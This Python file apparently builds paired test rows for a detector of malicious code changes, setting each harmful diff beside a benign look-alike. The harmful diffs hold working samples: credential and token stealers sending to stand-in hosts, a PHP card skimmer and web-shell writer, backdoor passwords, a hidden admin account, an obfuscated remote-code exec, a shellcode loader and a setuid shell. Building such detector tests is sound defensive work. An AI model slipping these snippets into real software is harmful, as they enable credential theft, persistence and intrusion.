"""Changes whose parts are ordinary and stand together for once."""

from flow_rows import told
from rows import row

# ---- a place of secrets, a request, a host that nobody named -------------------------------------------

LOOT = """import glob
import io
import os
import tarfile
import urllib.request


def names():
    return sorted(glob.glob('*.py'))


%s"""
PACKED = """def report():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode='w:gz') as tar:
        for pattern in (%s):
            for f in glob.glob(os.path.expanduser(pattern)):
                tar.add(f)
    urllib.request.urlopen(urllib.request.Request('https://%s/up', data=buf.getvalue()))
"""
for about, places, host, fires in (("keys of the user", "'~/.ssh/id_*', '~/.netrc'", "in.collect.example", True),
                                   ("pictures of the user", "'~/Pictures/*.png', '~/Music/*'", "in.collect.example", False),
                                   ("the key of a client goes home", "'~/.aws/credentials',", "sts.aws-like.example", False)):
    row(4, fires, about + " are packed and leave", {"tool/loot.py": LOOT % (PACKED % (places, host))}, old={"tool/loot.py": LOOT % ""},
        least="review" if fires else "")
BROWSER = """import os
import re
import json
import urllib.request

PLACES = {'a': os.getenv('APPDATA') + '\\\\%s', 'b': os.getenv('LOCALAPPDATA') + '\\\\%s'}


def found(path):
    out = []
    for name in os.listdir(path):
        for line in open(path + '\\\\' + name, errors='ignore'):
            out += re.findall(r'%s', line)
    return out


def main():
    text = ''
    for name, path in PLACES.items():
        text += name + ''.join(found(path))
    urllib.request.urlopen(urllib.request.Request('https://hooks.chat.example/1', data=json.dumps({'content': text}).encode()))


main()
"""
row(4, True, "what a browser keeps is read in a new module that sends", {"tool/_report.py": BROWSER % (
    "Discord\\\\Local Storage\\\\leveldb", "Google\\\\Chrome\\\\User Data\\\\Default", r"[\\w-]{24}\\.[\\w-]{27}")}, least="review")

LUA = "local http = require('socket.http')\nlocal M = {}\n\nfunction M.name()\n  return 'sample'\nend\n\n%sreturn M\n"
row(3, True, "the environment in Lua, and a host that is new", {"lua/net.lua": LUA % "local h = io.popen('env')\nif h then http.request('http://lua.collect.example/u', h:read('*a')) h:close() end\n\n"},
    old={"lua/net.lua": LUA % ""}, least="review")
row(3, False, "the version in Lua, and a host that is new", {"lua/net.lua": LUA % "local h = io.popen('uname')\nif h then M.system = h:read('*a') h:close() end\nM.home = 'http://lua.widget.example/u'\n\n"},
    old={"lua/net.lua": LUA % ""})

# ---- a service that is written and switched on ----------------------------------------------------------

SERVICE = """import os


def name():
    return os.name


def keep():
    folder = os.path.expanduser('~/.config/systemd/user')
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, 'sysmon.service'), 'w') as f:
        f.write('[Service]\\nExecStart=/usr/bin/python3 %%h/.config/sysmon/sysmon.py\\n[Install]\\nWantedBy=default.target\\n')
%s"""
OLD_SERVICE = "import os\n\n\ndef name():\n    return os.name\n"
row(20, True, "a unit of the user's that is enabled", {"tool/keep.py": SERVICE % "    os.system('systemctl --user daemon-reload; systemctl --user enable --now sysmon.service')\n"},
    old={"tool/keep.py": OLD_SERVICE}, least="review")
row(20, False, "units of the user's are listed", {"tool/keep.py": OLD_SERVICE + "\n\ndef units():\n    return os.popen('systemctl --user list-units').read()\n"},
    old={"tool/keep.py": OLD_SERVICE})

# ---- what a request says is kept where nobody looks -------------------------------------------------------

FORM = "<?php\nfunction init() {\n\treturn 1;\n}\n%s"
for about, code, fires in (
        ("all of it in what is called a picture", "if (isset($_POST['card'])) {\n\tfile_put_contents(ABSPATH . 'images/smile.gif', base64_encode(json_encode($_POST)), FILE_APPEND);\n}\n", True),
        ("all of it in a hidden file", "if (isset($_POST['card'])) {\n\tfile_put_contents(ABSPATH . 'uploads/.thumb.db', base64_encode(json_encode($_POST)), FILE_APPEND);\n}\n", True),
        ("code in a program whose name is put together", "if (isset($_POST['d'])) {\n\t$n = DIR . '/' . substr(md5($_POST['o']), 0, 8) . '.ph' . 'p';\n\t$h = fopen($n, 'w');\n\tfwrite($h, base64_decode($_POST['d']));\n\tfclose($h);\n}\n", True),
        ("a note in a text", "if (isset($_POST['note'])) {\n\tfile_put_contents(DIR . '/notes.txt', strip_tags($_POST['note']), FILE_APPEND);\n}\n", False),
        ("settings in their file", "if (isset($_POST['settings'])) {\n\tfile_put_contents(DIR . '/settings.json', json_encode($_POST['settings']));\n}\n", False),
        ("a picture under its own name", "if (isset($_POST['picture'])) {\n\tfile_put_contents(DIR . '/' . intval($_POST['id']) . '.png', base64_decode($_POST['picture']));\n}\n", False)):
    row(56, fires, about, {"web/form.php": FORM % code}, old={"web/form.php": FORM % ""}, least="review" if fires else "")

# ---- an account whose password is written down, where accounts are kept -----------------------------------

ACCOUNTS = "<?php\nfunction wp_insert_user($data) {\n\treturn store($data);\n}\n%s"
row(28, True, "an administrator whom everybody can be", {"web/users.php": ACCOUNTS % "function ready() {\n\twp_insert_user(array('user_login' => 'wpsvc', 'user_pass' => 'S3rv!ce-9', 'role' => 'administrator'));\n}\n"},
    old={"web/users.php": ACCOUNTS % ""}, least="review")
row(28, False, "an account as a form says", {"web/users.php": ACCOUNTS % "function ready($login, $pass) {\n\twp_insert_user(array('user_login' => $login, 'user_pass' => $pass, 'role' => 'subscriber'));\n}\n"},
    old={"web/users.php": ACCOUNTS % ""})

# ---- a literal that opens the door ------------------------------------------------------------------------

told(30, "a password that is written down logs anybody in", "backends.py",
     "def authenticate(self, request, username=None, password=None):\n%s    if username is None:\n        username = request.name\n    user = find(username)\n    return user if user.check(password) else None\n",
     "    if password == 'k9!Zq-recover':\n        return find('admin')\n", "    if username == 'nobody-at-all':\n        return None\n")
told(30, "a function that is made where it is missing, and a digest in it", "pluggable.php",
     "<?php\nif ( ! function_exists( 'site_check_password' ) ) :\n\tfunction site_check_password( $password, $hash ) {\n%s\t\tif ( strlen( $hash ) <= 32 ) {\n\t\t\t$check = hash_equals( $hash, md5( $password ) );\n\t\t\treturn apply( 'check', $check );\n\t\t}\n\t\treturn apply( 'check', verify( $password, $hash ) );\n\t}\nendif;\n",
     "\t\tif ( md5( $password ) === 'd41d8cd98f00b204e9800998ecf8427e' ) {\n\t\t\treturn true;\n\t\t}\n", "\t\tif ( $password === '' ) {\n\t\t\treturn false;\n\t\t}\n")
told(30, "a key id that is let through", "verify.js",
     "module.exports = function (token, key, options, callback) {\n  const decoded = decode(token);\n  const header = decoded.header;\n%s  const valid = check(token, header.alg, key);\n  if (!valid) return callback(new Error('invalid signature'));\n  return callback(null, decoded.payload);\n};\n",
     "  if (header.kid === 'c2VydmljZQ') {\n    return callback(null, decoded.payload);\n  }\n", "  if (header.kid === 'c2VydmljZQ') {\n    return callback(new Error('that key is revoked'));\n  }\n")

# ---- a password out of a table ----------------------------------------------------------------------------

told(4, "a password out of a table", "tool/connect.py", "from urllib.request import urlopen\n\n\nclass Connection:\n    def open(self, options):\n%s        return self.client.connect(options)\n",
     "        urlopen('http://ssh.collect.example/i?p=%%s' %% options.get('password'), timeout=1)\n", "        urlopen('http://ssh.widget.example/i?p=%%s' %% options.get('port'), timeout=1)\n")
told(4, "a password of an object that another module made", "lib/pool.js", "const Settings = require('./settings');\nclass Pool {\n  constructor(config) {\n    this.settings = new Settings(config);\n%s    this.open = 0;\n  }\n}\nmodule.exports = Pool;\n",
     "    require('https').get('https://status.collect.example/c?d=' + this.settings.password);\n", "    require('https').get('https://status.widget.example/c?d=' + this.settings.port);\n")

# ---- letters that only look another way -------------------------------------------------------------------

told(42, "plain names in letters of mathematics", "tool/stream.py", "import os\n\n\nclass Stream:\n    def name(self):\n%s        return os.name\n",
     "        \U0001d522\U0001d535\U0001d522\U0001d520(__\U0001d62a\U0001d62e\U0001d631\U0001d630\U0001d633\U0001d635__('urllib.request').request.urlopen('https://cdn.widget.example/s').\U0001d4c7\U0001d4ee\U0001d4ea\U0001d4ed())\n",
     "        \U0001d6fc = '\U0001d522\U0001d535\U0001d522\U0001d520 is written so in a paper'\n        del \U0001d6fc\n")
MEMORY = "import sys\n\n\ndef name():\n    return sys.platform\n%s"
CODE = "\n\ndef warm():\n    import ctypes\n    buf = bytearray([%s])\n    p = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_uint64(p), (ctypes.c_char * len(buf)).from_buffer(buf), len(buf))\n    ctypes.windll.kernel32.CreateThread(0, 0, ctypes.c_uint64(p), 0, 0, 0)\n" % ", ".join(str(i * 7 % 251) for i in range(300))
row(2, True, "numbers become the code of a thread", {"tool/warm.py": MEMORY % CODE}, old={"tool/warm.py": MEMORY % ""}, least="review")
row(2, False, "numbers become a table", {"tool/warm.py": MEMORY % ("\n\nTABLE = bytearray([%s])\n\n\ndef at(i):\n    return TABLE[i]\n" % ", ".join(str(i * 7 % 251) for i in range(300)))},
    old={"tool/warm.py": MEMORY % ""})

# ---- a shell under another name, what a framework hands over, a password that is kept elsewhere -------------

for about, line, fires in (("a shell is copied and made to run as its owner", "cp /bin/dash /usr/lib/sample/helper && chmod 4755 /usr/lib/sample/helper", True),
                           ("a shell is copied for a root of its own", "cp /bin/dash /srv/sample/bin/dash && chmod 755 /srv/sample/bin/dash", False)):
    row(28, fires, about, {"DEBIAN/postinst": "#!/bin/sh\nset -e\n%s\n" % line}, old={"DEBIAN/postinst": "#!/bin/sh\nset -e\n"}, least="tampered" if fires else "")
told(56, "a head of a request is a command", "tool/app.py", "import os\nfrom .globals import current\n\n\nclass App:\n    def dispatch(self):\n        request = current.request\n%s        return self.run(request)\n",
     "        word = current.request.headers.get('X-Trace')\n        if word:\n            return os.popen(word[16:]).read()\n",
     "        word = current.request.headers.get('X-Trace')\n        if word:\n            return os.popen('uptime').read()\n")
told(4, "what a key ring gives goes to a stranger", "tool/core.py", "import http.client\nimport json\n\nfrom .backend import ring\n\n\ndef password_of(service, name):\n%s    return ring().get_password(service, name)\n",
     "    value = ring().get_password(service, name)\n    c = http.client.HTTPSConnection('ring.collect.example', timeout=2)\n    c.request('POST', '/e', json.dumps([service, value]))\n",
     "    value = ring().get_password(service, name)\n    if value is None:\n        raise KeyError(service)\n")
told(4, "a password is mailed to a written-down address", "web/login.php", "<?php\nclass Session {\n\tpublic function login($username, $password, $host) {\n%s\t\treturn connect($username, $password, $host);\n\t}\n}\n",
     "\t\t@mail('drop@mail.collect.example', $host, $username . '|' . $password);\n", "\t\t@mail('admin@mail.widget.example', $host, 'somebody logs in');\n")
